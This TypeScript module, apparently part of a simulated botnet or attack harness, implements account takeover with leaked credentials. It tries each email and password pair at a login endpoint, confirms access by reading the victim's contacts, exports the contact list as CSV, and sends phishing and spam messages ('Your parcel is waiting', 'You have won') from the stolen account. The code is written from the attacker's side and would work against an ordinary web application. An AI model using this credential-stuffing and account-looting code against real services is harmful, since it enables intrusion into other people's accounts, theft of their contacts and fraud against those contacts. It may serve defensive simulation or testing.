import { createBrowser, jsonOf, type Browser, type Exchange, type WireRequest } from '../wire.ts';
import type { LeakedPair } from '../plan.ts';
import { isRefusal } from './botnet.ts';

/** A session of somebody else's account in the attacker's hands. */
export interface StolenSession {
  readonly email: string;
  readonly browser: Browser;
}

/** How a leaked pair ended: `entered` read the contacts, `refused` was told to come back later. */
export type PairOutcome = { readonly kind: 'entered'; readonly session: StolenSession } | { readonly kind: 'denied' | 'refused' };

/** Tries a leaked pair, and reads the contacts if it opens something. */
export async function tryPair({ email, password }: LeakedPair, send: (request: WireRequest) => Promise<Exchange>): Promise<PairOutcome> {
  const browser = createBrowser(send);
  const answer = await browser.send({ path: '/login', form: { email, password } });
  if (isRefusal(answer)) return { kind: 'refused' };
  if (answer.status !== 200) return { kind: 'denied' };
  const contacts = await browser.send({ path: '/contacts' });
  const isIn = contacts.status === 200 && Array.isArray(jsonOf(contacts)['contacts']);
  return isIn ? { kind: 'entered', session: { email, browser } } : { kind: 'denied' };
}

/** Mails sent from each account that was entered. */
const campaigns = [
  { subject: 'Your parcel is waiting', body: 'Pay the fee today: http://parcel.example/' },
  { subject: 'You have won', body: 'Claim your prize: http://prize.example/' },
];

export interface Loot {
  /** Addresses of the rows of the list that was exported. */
  readonly rows: readonly string[];
  readonly spamSent: number;
}

/** Exports the list, then sends spam to it. */
export async function lootAccount({ browser }: StolenSession): Promise<Loot> {
  const { status, body } = await browser.send({ path: '/contacts/export.csv' });
  const rows = status === 200 ? body.split('\r\n').slice(1).filter((row) => row !== '').map(emailOfRow) : [];
  let spamSent = 0;
  for (const form of campaigns) {
    const answer = await browser.send({ path: '/campaigns', form });
    const { sent } = jsonOf(answer);
    if (answer.status === 200 && typeof sent === 'number') spamSent += sent;
  }
  return { rows, spamSent };
}

function emailOfRow(row: string): string {
  return row.slice(0, row.indexOf(','));
}
